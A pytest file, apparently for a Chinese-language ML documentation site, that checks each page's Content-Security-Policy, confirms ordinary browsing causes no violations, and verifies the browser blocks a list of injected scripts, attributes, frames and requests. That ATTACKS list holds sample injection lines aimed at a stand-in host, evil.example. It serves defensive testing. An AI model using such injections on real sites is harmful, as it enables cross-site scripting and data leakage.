"""内容安全策略：每一页都有，登记的正好是页面里的内联脚本；平常的用法不触犯它，别的脚本与请求真的被浏览器拦下。"""

import base64
import hashlib
from html.parser import HTMLParser

import pytest
from sitetools import RESULTS, html_pages, search

WATCH = """
window.violations = []
document.addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))
"""


class Head(HTMLParser):
    """策略、策略之前的元素、内联脚本、事件属性与 javascript: 地址。"""

    def __init__(self, text):
        super().__init__()
        self.policy, self.before, self.scripts, self.bad, self._script = None, [], [], [], None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if attributes.get("http-equiv") == "Content-Security-Policy":
            self.policy = attributes["content"]
        elif self.policy is None:
            self.before.append(tag)
        self.bad += [name for name in attributes if name.startswith("on")]
        self.bad += [value for value in attributes.values() if (value or "").startswith("javascript:")]
        if tag == "style":
            self.bad.append("<style>")
        data = attributes.get("type") in ("application/json", "application/ld+json")
        self._script = "" if tag == "script" and "src" not in attributes and not data else None

    def handle_data(self, data):
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append(self._script)
        self._script = None


def hashes(scripts):
    return {f"'sha256-{base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()}'" for s in scripts}


def directives(policy):
    return {name: values for name, *values in (part.split() for part in policy.split(";"))}


@pytest.mark.parametrize("which", ["site", "offline_site"])
def test_every_page_has_a_strict_policy_that_names_its_inline_scripts(request, which):
    files = sorted(request.getfixturevalue(which).rglob("*.html"))
    assert len(files) > 130
    for file in files:
        head = Head(file.read_text(encoding="utf-8"))
        assert head.policy and head.before == ["html", "head", "meta"], file
        assert head.bad == [], file
        rules = directives(head.policy)
        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
        local = {"'self'"} if which == "site" else {"'self'", "file:"}
        listed = {value for value in rules["script-src"] if value.startswith("'sha256-")}
        assert set(rules["script-src"]) - listed == local
        # 离线版多登记一段：搜索的 worker 写进 iframe 的
        assert hashes(head.scripts) <= listed and len(listed) == 3 + (which == "offline_site")
        loose = {name for name, values in rules.items() if "'unsafe-inline'" in values}
        assert loose == {"style-src", "style-src-attr"} and "unsafe-eval" not in head.policy


@pytest.fixture
def watched(visit):
    """打开一页，从第一行起记下策略拦了什么。"""

    def open_page(url, **options):
        visitor = visit(url, **options)
        visitor.page.add_init_script(WATCH)
        visitor.page.reload(wait_until="load")
        return visitor

    return open_page


def assert_quiet(visitor):
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("violations") == []
    assert visitor.errors == [] and visitor.foreign == []


def test_ordinary_use_of_every_kind_of_page_breaks_nothing(watched, base_url):
    for url in ("", "notebooks/rl/dpo/", "api/rl/", "about/terms/", "404.html"):
        assert_quiet(watched(base_url + url))
    visitor = watched(base_url + "rl/dpo/", permissions=["clipboard-write"])
    page = visitor.page
    page.locator("label[for=__palette_1]").click()
    assert page.evaluate("document.body.dataset.mdColorScheme") == "default"
    page.locator("details.code summary").first.click()
    page.locator("article .highlight").first.hover()
    page.locator(".md-code__button, .md-clipboard").first.click()
    assert pages_found(page, "近端策略优化")
    assert_quiet(visitor)
    visitor = watched(base_url + "interviews/")
    visitor.page.get_by_role("button", name="开始自测").click()
    visitor.page.get_by_role("button", name="看答案").click()
    assert_quiet(visitor)
    visitor = watched(base_url + "architecture/kv-cache/")
    visitor.page.locator('.kb-calculator input[name="num_tokens"]').fill("131072")
    assert_quiet(visitor)


def test_ordinary_use_from_a_folder_breaks_nothing(watched, offline_site):
    origin = offline_site.as_uri() + "/"
    for name in ("index", "notebooks/rl/dpo", "api/rl"):
        assert_quiet(watched(f"{origin}{name}.html", origin=origin))
    visitor = watched(f"{origin}rl/dpo.html", origin=origin)
    assert pages_found(visitor.page, "近端策略优化")
    assert_quiet(visitor)


def pages_found(page, query):
    search(page, query)
    return page.locator(RESULTS).count()


ATTACKS = {
    "script-src-elem inline": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned = 1'}))",
    "script-src-attr inline": "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.__pwned = 1\">x</p>'); document.body.lastChild.click()",
    "script-src-elem https://evil.example/x.js": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "script-src-elem data": "document.body.append(Object.assign(document.createElement('script'), {src: 'data:,window.__pwned=1'}))",
    "script-src eval": "setTimeout('window.__pwned = 1')",
    "img-src https://evil.example/x.png": "new Image().src = 'https://evil.example/x.png'",
    "connect-src https://evil.example/": "fetch('https://evil.example/').catch(() => {})",
    "style-src-elem inline": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'p{color:red}'}))",
    "style-src-elem https://evil.example/x.css": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
    "frame-src https://evil.example/": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "base-uri https://evil.example/": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
    "object-src https://evil.example": "document.body.append(Object.assign(document.createElement('object'), {data: 'https://evil.example/x'}))",
    "form-action https://evil.example/": "(f => {document.body.append(f); f.submit()})(Object.assign(document.createElement('form'), {action: 'https://evil.example/'}))",
}


@pytest.mark.parametrize("which", ["site", "offline_site"])
def test_the_browser_blocks_what_the_policy_does_not_name(request, watched, which):
    folder = request.getfixturevalue(which)
    origin = request.getfixturevalue("base_url") if which == "site" else folder.as_uri() + "/"
    visitor = watched(origin + ("about/" if which == "site" else "about/index.html"), origin=origin)
    page = visitor.page
    # 由页面自己的脚本动手，不是由测试的：evaluate 不受策略管
    for attack in ATTACKS.values():
        page.evaluate(f"(() => {{ {attack} }})()")
        page.wait_for_timeout(50)
    page.wait_for_timeout(300)
    blocked = page.evaluate("violations")
    missing = [name for name in ATTACKS if not any(line.startswith(name.rstrip("/")) for line in blocked)]
    assert missing == [], blocked
    assert page.evaluate("window.__pwned") is None and visitor.foreign == []


def test_pages_are_all_looked_at(site):
    """上面按 *.html 数；别的测试按地址数，两边一致。"""
    assert len(html_pages(site)) + 1 == len(list(site.rglob("*.html")))
